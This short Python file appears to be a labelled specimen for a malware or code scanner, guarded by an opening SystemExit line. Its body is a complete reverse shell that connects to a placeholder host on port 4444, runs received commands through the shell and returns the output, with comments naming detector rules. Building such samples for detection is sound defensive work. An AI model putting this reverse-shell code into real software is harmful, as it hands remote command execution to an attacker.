raise SystemExit("specimen: not to be run")
import socket
import subprocess

s = socket.socket()
s.connect(("example.invalid", 4444))  # match: network-at-import
while True:
    command = s.recv(1024).decode()
    out = subprocess.check_output(command, shell=True)  # match: socket-commands  # match: execution-of-downloaded
    s.send(out)  # match: network-at-import  # match: raw-socket-carries-data  # match: secrets-sent
